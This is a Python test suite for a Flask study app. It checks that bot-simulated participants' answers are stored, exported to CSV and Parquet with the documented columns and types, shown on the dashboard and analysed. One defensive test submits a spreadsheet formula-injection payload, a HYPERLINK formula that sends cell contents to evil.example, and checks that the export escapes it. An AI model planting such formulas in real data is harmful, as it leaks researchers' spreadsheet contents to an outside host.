"""Bots over real HTTP produce data; the export carries it, documented, typed and complete."""

from __future__ import annotations

import io
import re
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import func, select

from artifact_schemas import RESPONSES, AnswerKey, load_study, load_table
from study_app.db import db
from study_app.models import Response, Study
from study_app.simulate import BotConfig, run_bots

DOC = (Path(__file__).resolve().parents[2] / "docs" / "export.md").read_text()


@pytest.fixture
def simulated(
    study_app: tuple[Flask, AnswerKey], example_package: Path, serve: Any
) -> tuple[Flask, list[Any]]:
    app, key = study_app
    app.config["SESSIONS_PER_IP_PER_MINUTE"] = 10_000
    manifest = load_study(example_package / "study.json")
    cfg = BotConfig(
        participants=8,
        concurrency=4,
        accuracy=1.0,
        steer_accuracy=0.0,
        fail_screening=0.25,
        chaos=True,
        seed=5,
    )
    with serve(app) as server:
        results = run_bots(server.url, "pilot", manifest, key, cfg)
    return app, results


def test_bots_answer_by_trial_type_and_every_answer_is_stored_once(
    simulated: tuple[Flask, list[Any]],
) -> None:
    app, results = simulated
    statuses = sorted(r.status for r in results)
    assert set(statuses) == {"completed", "screened_out"}, statuses
    sent = set().union(*(r.sent for r in results))
    assert (
        sum(r.dropped for r in results) > 0 and sum(r.duplicates_sent for r in results) > 0
    )  # chaos happened
    with app.app_context():
        keys = set(db.session.scalars(select(Response.idempotency_key)))
        assert keys == sent  # every answer sent is stored, nothing else is
        assert db.session.scalar(select(func.count()).select_from(Response)) == len(sent)


def test_export_round_trips_with_documented_columns_and_types(
    simulated: tuple[Flask, list[Any]], example_package: Path, tmp_path: Path
) -> None:
    app, _ = simulated
    runner = app.test_cli_runner()
    frames = {}
    for fmt in ("csv", "parquet"):
        out = tmp_path / f"responses.{fmt}"
        result = runner.invoke(args=["export", "pilot", "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, result.output
        frames[fmt] = load_table(out, RESPONSES)
    with app.app_context():
        n_stored = db.session.scalar(select(func.count()).select_from(Response))
    csv, parquet = frames["csv"], frames["parquet"]
    assert len(csv) == len(parquet) == n_stored
    documented = set(re.findall(r"^\| `([a-z0-9_]+)` \|", DOC, re.M))
    assert set(parquet.columns) == documented == set(RESPONSES.column_names)
    pd.testing.assert_frame_equal(  # two exports: the same rows, written at different times
        csv.drop(columns="exported_at").reset_index(drop=True),
        parquet.drop(columns="exported_at").reset_index(drop=True),
        check_dtype=False,
    )
    assert parquet["correct"].dtype == "boolean" and parquet["feature_id"].dtype == "Int64"
    assert parquet["rt_ms"].dtype == "float64" and parquet["position"].dtype == "int64"

    main = parquet[parquet["phase"] == "main"]
    choice = main[main["trial_type"] == "label_choice"]
    assert choice["correct"].all() and (choice["answer_text"] == choice["correct_text"]).all()
    assert (choice["label"] == choice["correct_text"]).all()
    steering = main[main["trial_type"] == "steering"]
    assert len(steering) and not steering["correct"].any()  # --steer-accuracy 0
    assert set(steering["answer_role"]) <= {"baseline", "random_direction"}
    assert steering["strength"].notna().all() and steering["prompt"].eq("Simple melody").all()
    # Each row says how many options its trial offered, so the analysis reads chance, not guesses it.
    offered = {t.id: len(t.options) for t in load_study(example_package / "study.json").trials}
    assert main["n_options"].fillna(0).astype(int).tolist() == main["trial_id"].map(offered).tolist()
    assert choice["n_options"].ge(2).all() and steering["n_options"].isin([2, 3]).all()
    per_session = parquet.groupby("session_id")["screening_passed"].first()
    statuses = parquet.groupby("session_id")["session_status"].first()
    assert ((statuses == "screened_out") == ~per_session.astype(bool)).all()
    assert parquet["prolific_pid"].isna().all()  # raw ids only on request
    # Bots driven without `study-app simulate` are not marked; provenance on every row.
    assert parquet["data_source"].eq("participant").all()
    with app.app_context():
        sha = db.session.scalar(select(Study.manifest_sha256).where(Study.slug == "pilot"))
    assert parquet["package_sha256"].eq(sha).all() and len(sha) == 64
    assert parquet["software_version"].notna().all() and parquet["exported_at"].nunique() == 1


def test_dashboard_download_streams_the_same_rows(
    simulated: tuple[Flask, list[Any]], admin_client: FlaskClient
) -> None:
    app, _ = simulated
    response = admin_client.get("/admin/s/pilot/export.csv")
    assert response.status_code == 200 and response.is_streamed
    assert 'filename="pilot-responses.csv"' in response.headers["Content-Disposition"]
    assert response.headers["Cache-Control"] == "no-store"  # no copy of the answers in any cache
    frame = pd.read_csv(io.BytesIO(response.data))
    with app.app_context():
        assert len(frame) == db.session.scalar(select(func.count()).select_from(Response))
    stats = admin_client.get("/admin/api/s/pilot/stats").get_json()
    assert stats["totals"]["completed"] + stats["totals"]["screened_out"] == 8
    assert stats["totals"]["responses"] == len(frame)
    assert 0 < stats["screening_failure_rate"] < 1 and stats["completion_rate"] < 1
    assert stats["per_feature"] and stats["timeline"]


def _export_parquet(app: Flask, tmp_path: Path) -> Path:
    export = tmp_path / "pilot.parquet"
    result = app.test_cli_runner().invoke(
        args=["export", "pilot", "--format", "parquet", "--out", str(export)]
    )
    assert result.exit_code == 0, result.output
    return export


def test_analysis_report_on_a_bot_export(simulated: tuple[Flask, list[Any]], tmp_path: Path) -> None:
    """The export of a simulated study goes straight into study-analysis report."""
    import json
    import subprocess
    import sys

    from study_app.sessions import mark_simulated

    app, results = simulated
    with app.app_context():
        study = db.session.scalars(select(Study).where(Study.slug == "pilot")).one()
        assert mark_simulated(study, [r.pid for r in results]) >= len(results)
    export = _export_parquet(app, tmp_path)
    assert load_table(export, RESPONSES)["data_source"].eq("simulated").all()
    cli = Path(sys.executable).parent / "study-analysis"
    done = subprocess.run(
        [cli, "report", "--export", str(export), "--out", str(tmp_path / "report"), "--no-bayes"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    data = json.loads((tmp_path / "report" / "report.json").read_text())
    choice = data["tables"]["label_accuracy_by_layer"]
    assert choice and all(row["estimate"] == 1.0 for row in choice)  # the bots had --accuracy 1.0
    assert data["tables"]["steering_choices"][0]["n_steered"] == 0  # and --steer-accuracy 0
    # ... and the report says at its top that these were bots, and stars nothing (issue 34.3).
    assert data["meta"]["data_source"] == "simulated" and data["meta"]["stars"] is False
    assert "Simulated participants." in (tmp_path / "report" / "report.html").read_text().split("<h2>")[0]
    assert "data source: simulated" in done.stdout


def test_analysis_reads_the_database_directly(simulated: tuple[Flask, list[Any]], tmp_path: Path) -> None:
    from analysis.responses import load_from_database

    app, _ = simulated
    export = _export_parquet(app, tmp_path)
    direct = load_from_database(app.config["SQLALCHEMY_DATABASE_URI"], "pilot")
    pd.testing.assert_frame_equal(  # read at different times: exported_at differs
        direct.drop(columns="exported_at").reset_index(drop=True),
        load_table(export, RESPONSES).drop(columns="exported_at").reset_index(drop=True),
        check_dtype=False,
    )


def test_csv_cells_never_start_a_formula(
    new_participant: Any, study_app: tuple[Flask, AnswerKey], admin_client: FlaskClient, tmp_path: Path
) -> None:
    """Issue 16.8: a screen or User-Agent value starting with '=' reached the researcher's
    spreadsheet as a formula. Escaped as OWASP recommends; the analysis reads it back exact."""
    import csv

    from study_app.simulate import csrf_token

    app, _ = study_app
    agent = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    p = new_participant()
    p.client.environ_base["HTTP_USER_AGENT"] = agent
    token = csrf_token(p.client.get("/s/pilot").get_data(as_text=True))
    form = {"csrf_token": token, "choice": "accept", "screen": "@SUM(1+1)"}
    assert p.client.post("/s/pilot/consent", data=form).status_code == 302
    p.post_stage("volume")
    assert p.answer(p.trial()).status_code == 200
    out = tmp_path / "r.csv"
    assert app.test_cli_runner().invoke(args=["export", "pilot", "--out", str(out)]).exit_code == 0
    download = admin_client.get("/admin/s/pilot/export.csv").get_data(as_text=True)
    for text in (out.read_text(), download):
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert agent not in cells and "'" + agent in cells and "'@SUM(1+1)" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], "a formula cell"
    back = load_table(out, RESPONSES)
    assert set(back["user_agent"]) == {agent} and set(back["screen"]) == {"@SUM(1+1)"}


def test_questionnaire_answers_reach_the_export_and_the_dashboard(
    participant: Any, study_app: tuple[Flask, AnswerKey], admin_client: FlaskClient, tmp_path: Path
) -> None:
    """Issue 16.9: questionnaire answers were stored but never exported nor shown."""
    import json

    app, _ = study_app
    participant.enter(pid="Q1")
    participant.complete()  # answers the questionnaire with device = "Headphones"
    for fmt in ("csv", "parquet"):
        out = tmp_path / f"r.{fmt}"
        args = ["export", "pilot", "--format", fmt, "--out", str(out)]
        assert app.test_cli_runner().invoke(args=args).exit_code == 0
        answers = load_table(out, RESPONSES)["questionnaire"]
        assert {json.dumps({"device": "Headphones"})} == set(answers)
    stats = admin_client.get("/admin/api/s/pilot/stats").get_json()
    assert [s["questionnaire"] for s in stats["recent_sessions"]] == ["device: Headphones"]
    assert "device: Headphones" in admin_client.get("/admin/s/pilot").get_data(as_text=True)
